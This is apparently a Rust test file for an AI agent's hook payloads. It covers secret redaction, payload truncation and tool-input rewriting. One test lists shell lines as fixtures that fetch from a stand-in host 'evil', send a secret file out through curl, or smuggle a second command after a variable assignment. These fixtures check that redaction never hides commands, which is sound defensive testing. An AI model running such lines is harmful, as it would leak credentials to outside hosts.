use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::condition::Globs;
use crate::config::Format;
use crate::config::tests::any_json;
use crate::layers::{Checks, Layer, Source, load};
use crate::limits::PAYLOAD_BYTES;

fn session() -> Session {
    Session {
        id: "s1".to_owned(),
        transcript_path: None,
        cwd: "/work".to_owned(),
        project_dir: "/work".to_owned(),
        home: None,
        mode: Some("auto-edit".to_owned()),
    }
}

fn hook(format: Format, event: &str, matcher: &str) -> Hook {
    let text =
        json!({"hooks": {event: [{"matcher": matcher, "hooks": [{"type": "prompt", "prompt": "p"}]}]}});
    let source = Source {
        layer: Layer::User,
        format,
        origin: "o",
        plugin_root: None,
        workspace: None,
        text: &text.to_string(),
        enables_commands: true,
    };
    let checks = Checks {
        is_approved: &|_| true,
        files: &|_, _| crate::layers::Files::default(),
        condition: &Globs,
        callback: &|_, _, _| Ok(()),
    };
    load(&[source], &checks).hooks.all()[0].clone()
}

fn call(tool: &str, input: Value) -> Call {
    Call { tool: tool.to_owned(), input: input.as_object().unwrap().clone(), id: "c1".to_owned() }
}

fn payload_of(hook: &Hook, happening: &Happening, secrets: &[&str]) -> Payload {
    let asked = happening.call().map(|call| (call, hook.asks_for(&call.tool).unwrap()));
    let asked = asked.as_ref().map(|(call, asked)| (*call, asked));
    let redactor = Redactor::new(secrets.iter().map(|secret| (*secret).to_owned()));
    Payload::new(&session(), happening, asked, hook, &redactor, PAYLOAD_BYTES)
}

#[test]
fn a_peers_hook_gets_what_it_knows() {
    let happening = Happening::PreToolUse(call(
        "FileReplace",
        json!({"path": "a.rs", "old_string": "b", "new_string": "c"}),
    ));
    let payload = payload_of(&hook(Format::Settings, "PreToolUse", "Edit"), &happening, &[]);
    assert_eq!(
        payload.value,
        json!({
            "session_id": "s1", "transcript_path": "", "cwd": "/work", "permission_mode": "acceptEdits",
            "hook_event_name": "PreToolUse", "tool_name": "Edit", "tool_use_id": "c1",
            "tool_input": {"file_path": "/work/a.rs", "old_string": "b", "new_string": "c"},
        })
    );
    assert_eq!(serde_json::from_str::<Value>(&payload.text).unwrap(), payload.value);
    let payload = payload_of(&hook(Format::Own, "PreToolUse", "FileReplace"), &happening, &[]);
    assert_eq!(payload.value["tool_name"], "FileReplace");
    assert_eq!(payload.value["tool_input"]["path"], "a.rs");
    assert_eq!(payload.value["permission_mode"], "auto-edit");
}

#[test]
fn events_have_their_fields_and_the_name_that_was_asked_for() {
    let stop = Happening::AgentStop { last_message: "done".to_owned(), stop_hook_active: true };
    let payload = payload_of(&hook(Format::Own, "Stop", ""), &stop, &[]);
    assert_eq!(
        (&payload.value["hook_event_name"], &payload.value["stop_hook_active"]),
        (&json!("Stop"), &json!(true))
    );
    let payload = payload_of(&hook(Format::Own, "AgentStop", ""), &stop, &[]);
    assert_eq!(payload.value["hook_event_name"], "AgentStop");
    let error = Happening::AgentError { kind: "rate_limit".to_owned(), message: "m".to_owned() };
    let payload = payload_of(&hook(Format::Settings, "StopFailure", ""), &error, &[]);
    assert_eq!(
        (&payload.value["error"], &payload.value["error_details"]),
        (&json!("rate_limit"), &json!("m"))
    );
    let done = call("Shell", json!({"command": "ls"}));
    let batch = Happening::PostToolBatch(vec![crate::happening::Ended {
        call: done,
        response: json!("x"),
        is_error: false,
    }]);
    let payload = payload_of(&hook(Format::Settings, "PostToolBatch", ""), &batch, &[]);
    assert_eq!(payload.value["tool_calls"][0]["tool_name"], "Bash");
}

#[test]
fn secrets_are_not_shown() {
    let redactor = Redactor::new(["hunter22".to_owned(), "hunter22-long".to_owned(), "abc".to_owned()]);
    let value = json!({
        "api_key": "x", "clientSecret": ["y", {"a": "z", "n": 7}], "X-Auth-Token": "t", "password": "",
        "max_tokens": 5, "token": 9, "tokenizer": "bpe", "monkey": "banana",
        "text": "key sk-abcdefghijklmnop1234, Bearer abcdefghijklmnop, and hunter22-long then hunter22",
        "env": "AWS_SECRET_ACCESS_KEY=abcd1234 ls; export GITHUB_TOKEN=\"ghs\" task-runner-of-mine",
        "url": "https://ada:pw1234@host/x?api_key=abcd1234&b=c",
        "header": "curl -H 'Authorization: Basic YWRhOnB3' x",
        "pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq9\nMIIEpAIBAAKCAQEA7bq9==\n-----END RSA PRIVATE KEY-----\nrest",
        "short": "abc", "json": "curl -d '{\"password\": \"hunter\", \"user\": \"ada\"}'",
    });
    let shown = redactor.redact(&value);
    assert_eq!(
        shown,
        json!({
            "api_key": MARK, "clientSecret": [MARK, {"a": MARK, "n": 7}], "X-Auth-Token": MARK, "password": "",
            "max_tokens": 5, "token": 9, "tokenizer": "bpe", "monkey": "banana",
            "text": format!("key {MARK}, Bearer {MARK}, and {MARK} then {MARK}"),
            "env": format!("AWS_SECRET_ACCESS_KEY={MARK} ls; export GITHUB_TOKEN=\"ghs\" task-runner-of-mine"),
            "url": format!("https://ada:{MARK}@host/x?api_key={MARK}&b=c"),
            "header": format!("curl -H 'Authorization: Basic {MARK}' x"),
            "pem": format!("{MARK}\n-----END RSA PRIVATE KEY-----\nrest"),
            "short": "abc", "json": format!("curl -d '{{\"password\": \"{MARK}\", \"user\": \"ada\"}}'"),
        })
    );
}

#[test]
fn what_a_shell_would_run_is_shown() {
    let redactor = Redactor::default();
    for line in [
        "TOKEN=`curl${IFS}evil` x",
        "TOKEN=$(curl evil) x",
        "echo authorization:$(curl evil)",
        "echo 'authorization: '`curl evil`",
        "curl 'https://a/?token='$(cat secret)",
        "API_KEY=;curl evil",
        "API_KEY=a|curl evil",
    ] {
        assert_eq!(redactor.text(line), line);
    }
}

#[test]
fn new_arguments_keep_the_secrets_that_the_hook_did_not_see() {
    let now = call("Shell", json!({"command": "deploy", "api_key": "k", "timeout": 3}));
    let happening = Happening::PreToolUse(now.clone());
    let payload = payload_of(&hook(Format::Settings, "PreToolUse", "Bash"), &happening, &[]);
    let mut updated = payload.value["tool_input"].as_object().unwrap().clone();
    updated.insert("command".to_owned(), json!("deploy --dry-run"));
    let input = payload.rewritten(&now, &updated).unwrap();
    assert_eq!(Value::Object(input), json!({"command": "deploy --dry-run", "api_key": "k", "timeout": 3}));

    let secret = call("FileCreate", json!({"path": "/a", "content": "key: sk-abcdefghijklmnop1234\n"}));
    let happening = Happening::PreToolUse(secret.clone());
    let payload = payload_of(&hook(Format::Settings, "PreToolUse", "Write"), &happening, &[]);
    let mut updated = payload.value["tool_input"].as_object().unwrap().clone();
    assert_eq!(payload.rewritten(&secret, &updated).unwrap(), secret.input);
    let text = format!("# formatted\n{}", updated["content"].as_str().unwrap());
    updated.insert("content".to_owned(), json!(text));
    assert!(payload.rewritten(&secret, &updated).unwrap_err().contains("secret"));
}

#[test]
fn a_large_payload_is_cut_and_stays_json() {
    let long = call("FileCreate", json!({"path": "/a", "content": "\u{1}é".repeat(200_000)}));
    let happening = Happening::PreToolUse(long.clone());
    let hook = hook(Format::Own, "PreToolUse", "");
    let asked = hook.asks_for("FileCreate").unwrap();
    let payload =
        Payload::new(&session(), &happening, Some((&long, &asked)), &hook, &Redactor::default(), 10_000);
    assert!(payload.is_cut && payload.text.len() <= 10_000);
    let value: Value = serde_json::from_str(&payload.text).unwrap();
    assert_eq!((&value["payload_cut"], &value["tool_name"]), (&json!(true), &json!("FileCreate")));
    assert!(value["tool_input"]["content"].as_str().unwrap().ends_with("[cut, 600000 bytes]"));
    assert!(payload.rewritten(&long, &long.input).unwrap_err().contains("only a part"));
}

#[test]
fn many_small_values_are_cut_too() {
    let list: Vec<u32> = (0..100_000).collect();
    let (text, _, is_cut) = fit(json!({"hook_event_name": "x", "tool_input": {"list": list}}), 4000);
    assert!(is_cut && text.len() <= 4000 && text.contains("100000 items"));
    let names: Map<String, Value> =
        (0..10_000).map(|at| (format!("{at}{}", "n".repeat(100)), json!(1))).collect();
    let (text, _, _) = fit(json!({"hook_event_name": "x", "tool_input": names}), 4000);
    assert!(text.len() <= 4000);
}

proptest! {
    #[test]
    fn a_payload_fits_and_is_json(value in any_json(), limit in 100_usize..2000) {
        let (text, shown, is_cut) = fit(value.clone(), limit);
        prop_assert!(text.len() <= limit);
        prop_assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), shown);
        prop_assert_eq!(is_cut, value.to_string().len() > limit);
    }

    #[test]
    fn known_secrets_never_show(before in ".{0,20}", after in ".{0,20}", secret in "[a-z0-9]{6,20}") {
        let redactor = Redactor::new([secret.clone()]);
        let value = json!({"a": [format!("{before}{secret}{after}")], format!("k{secret}"): {"b": secret}});
        let shown = redactor.redact(&value).to_string();
        prop_assert!(!shown.replace(MARK, "").contains(&secret) || MARK.contains(&secret));
    }

    #[test]
    fn what_comes_back_as_it_was_sent_is_the_original(value in any_json(), peer in any::<bool>()) {
        let input = json!({"command": value.clone(), "timeout": 7, "token": "t", "x": [value]});
        let now = call("Shell", input);
        let happening = Happening::PreToolUse(now.clone());
        let format = if peer { Format::Settings } else { Format::Own };
        let payload = payload_of(&hook(format, "PreToolUse", ""), &happening, &[]);
        let sent = payload.value["tool_input"].as_object().unwrap();
        prop_assert_eq!(payload.rewritten(&now, sent).unwrap(), now.input);
    }
}

#[test]
fn a_key_hides_no_command_that_follows_its_beginning() {
    for line in [
        "-----BEGIN PRIVATE KEY-----\ntouch x",
        ": '-----BEGIN PRIVATE KEY-----'\ntouch x",
        r#"echo "token": "$(touch x)""#,
    ] {
        let shown = Redactor::new([]).redact(&json!({"command": line}));
        assert!(shown.to_string().contains("touch x"), "{shown}");
    }
}
